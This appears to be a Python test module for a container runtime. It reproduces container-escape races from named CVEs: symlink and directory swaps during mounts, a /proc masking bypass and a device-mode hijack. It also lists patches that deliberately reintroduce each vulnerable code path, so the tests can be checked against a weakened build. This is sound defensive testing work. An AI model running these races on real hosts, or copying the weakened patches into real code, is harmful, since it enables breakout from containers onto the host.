"""Attacks with links and exchanged directories while mounts are made: something lands outside the root, or stays uncovered."""

from pathlib import Path

from tests.reference_runtime.attacks.ground import Attack, Ground, beside, exchanging
from tests.reference_runtime.attacks.weakening import Change

_MOUNTS = 12
_ROUNDS = 8
_DEVICES = 50


def _race(ground: Ground, *, missing: bool) -> bool:
    """Exchange a directory of a shared volume with a link to the host while mounts go there; returns whether one got out."""
    outside = ground.outside()
    volume = ground.place / "volume"
    (volume / "place").mkdir(parents=True)
    (volume / "link").symlink_to(outside)
    bundle = ground.bundle()
    if not missing:
        # Within the image the link leads somewhere too, so that whoever looks there before finds nothing wrong.
        for directory in (volume / "place", outside, bundle.rootfs / str(outside).lstrip("/")):
            for index in range(_MOUNTS):
                (directory / str(index)).mkdir(parents=True)
    bundle.mount("/volume", source=str(volume), options=["bind"])
    for index in range(_MOUNTS):
        bundle.mount(f"/volume/place/{index}", type="tmpfs", source="tmpfs")
    seen = ground.place / "mountinfo"
    bundle.when_mounted(
        f"import json; pid = json.load(sys.stdin)['pid']; open({str(seen)!r}, 'a').write(open(f'/proc/{{pid}}/mountinfo').read())"
    )
    expected = sorted(path.name for path in outside.iterdir())
    with exchanging(volume / "place", volume / "link"):
        for _ in range(_ROUNDS):
            ground.create(bundle)
            ground.delete()
            is_made = sorted(path.name for path in outside.iterdir()) != expected
            is_mounted = seen.exists() and f" {outside}/" in seen.read_text()
            if is_made or is_mounted:
                return True
    return False


def exchanged_mount_point(ground: Ground) -> bool:
    """CVE-2021-30465: a mount point is a directory when it is looked at, and a link to the host when something is mounted."""
    return _race(ground, missing=False)


def exchanged_parent(ground: Ground) -> bool:
    """CVE-2024-45310: a mount point is missing, and its parent becomes a link to the host before it is made."""
    return _race(ground, missing=True)


def exchanged_proc(ground: Ground) -> bool:
    """CVE-2019-19921, CVE-2023-27561: masks go to a directory of the attacker's, and /proc stays open.

    /proc of the image leads into a shared volume, where another directory takes its place between mount and masks.
    """
    masked = "version"  # a file that all kernels have
    volume = ground.place / "volume"
    for level in ("level", "other"):
        (volume / level / "proc/sys").mkdir(parents=True)
        (volume / level / "proc" / masked).write_text("fake")
    bundle = ground.bundle()
    (bundle.rootfs / "proc").rmdir()
    (bundle.rootfs / "proc").symlink_to("/volume/level/proc")
    bundle.config["mounts"].insert(0, {"destination": "/volume", "source": str(volume), "options": ["bind"]})
    bundle.config["linux"]["maskedPaths"] = [f"/proc/{masked}"]
    bundle.config["linux"]["readonlyPaths"] = ["/proc/sys"]
    bundle.when_mounted(f"os.chdir({str(volume)!r}); os.rename('level', 'aside'); os.rename('other', 'level')")
    if not ground.create(bundle):
        return False
    (volume / "level").rename(volume / "other")
    (volume / "aside").rename(volume / "level")
    mounts = Path(f"/proc/{ground.pid()}/mountinfo").read_text()
    ground.delete()
    assert " /volume/level/proc " in mounts  # the kernel's, where the container's /proc leads to
    covered = f" /volume/level/proc/{masked} " in mounts and " /volume/level/proc/sys ro" in mounts
    return not covered


def exchanged_device(ground: Ground) -> bool:
    """Put a link to a file of the host's in the place of a device that has just been made, and have that get its mode."""
    outside = ground.outside() / "file"
    outside.chmod(0o600)
    volume = ground.place / "volume"
    volume.mkdir()
    bundle = ground.bundle()
    bundle.mount("/volume", source=str(volume), options=["bind"])
    devices = [{"type": "c", "path": f"/volume/{index}", "major": 1, "minor": 3, "fileMode": 0o666} for index in range(_DEVICES)]
    bundle.config["linux"]["devices"] = devices
    for _ in range(_ROUNDS):
        with beside(lambda: _replace_devices(volume, outside)):
            ground.create(bundle)
        ground.delete()
        if outside.stat().st_mode & 0o777 != 0o600:
            return True
        for file in volume.iterdir():
            file.unlink()
    return False


def moved_mount_point(ground: Ground) -> bool:
    """In a mount namespace of others, exchange the parent of a mount point for a link, and have the image copied to the host."""
    outside = ground.outside()
    volume = ground.place / "volume"
    for index in range(_MOUNTS):
        (outside / str(index)).mkdir()
        (volume / "place" / str(index)).mkdir(parents=True)
        (volume / "place" / str(index) / "planted").write_text("planted")
    (volume / "link").symlink_to(outside)
    bundle = ground.bundle()
    namespaces = bundle.config["linux"]["namespaces"]
    bundle.config["linux"]["namespaces"] = [each for each in namespaces if each["type"] != "mount"]
    bundle.config["mounts"] = []
    for key in ("maskedPaths", "readonlyPaths"):
        bundle.config["linux"].pop(key, None)
    bundle.mount("/volume", source=str(volume), options=["bind"])
    for index in range(_MOUNTS):
        bundle.mount(f"/volume/place/{index}", type="tmpfs", source="tmpfs", options=["tmpcopyup"])
    with exchanging(volume / "place", volume / "link"):
        for _ in range(_ROUNDS):
            ground.create(bundle)
            ground.delete()
            if list(outside.glob("*/planted")):
                return True
    return False


def _replace_devices(volume: Path, target: Path) -> None:
    for index in range(_DEVICES):
        (volume / f"link-{index}").symlink_to(target)
    for index in range(_DEVICES):
        while not (volume / str(index)).is_char_device():
            pass
        (volume / f"link-{index}").rename(volume / str(index))


_TIME_PASSES = "        from select import select; select([], [], [], 0.02)\n"
"""As on a machine with much to do: a weakened build has to fall each time."""

ATTACKS = {
    "moved_mount_point": Attack(
        moved_mount_point,
        (
            Change(
                "effects/mounts.py",
                "        tree = new_filesystem(stage, source=self.source, kind=self.kind, flags=flags, data=data)\n",
                '        posix.fchdir(target)\n        k.mount(self.source, ".", self.kind, flags, data or None)\n'
                '        name = posix.readlink(f"/proc/self/fd/{target}")\n'
                f"{_TIME_PASSES}"
                "        tree = k.open_tree(AT_FDCWD, name, 0)\n",
            ),
            Change("effects/mounts.py", "        k.move_mount(tree, target)\n        if late:", "        if late:"),
        ),
    ),
    "exchanged_device": Attack(
        exchanged_device,
        (
            Change(
                "effects/devices.py",
                'chmod(f"self/fd/{node}", self.mode, dir_fd=stage.proc)',
                "chmod(name, self.mode, dir_fd=parent)",
            ),
            Change(
                "effects/devices.py", "        if status.st_mode & 0o7777 != self.mode:", f"{_TIME_PASSES}        if self.mode:"
            ),
        ),
    ),
    "exchanged_mount_point": Attack(
        exchanged_mount_point,
        (
            Change(
                "effects/targets.py",
                "        return open_in_root(root, normal(path))",
                "        posix.close(open_in_root(root, normal(path)))\n"
                '        return posix.open(f"/proc/self/fd/{root}/{normal(path)}", O_PATH | posix.O_CLOEXEC)',
            ),
        ),
    ),
    "exchanged_parent": Attack(
        exchanged_parent,
        (
            Change(
                "effects/targets.py",
                "            make(parent, name)",
                '            make(posix.open(f"/proc/self/fd/{root}/{parent_path}", O_PATH | posix.O_CLOEXEC), name)',
            ),
        ),
    ),
    "exchanged_proc": Attack(
        exchanged_proc,
        (Change("effects/targets.py", "tree = stage.kernel_trees.get(first)", "tree = None"),),
    ),
}
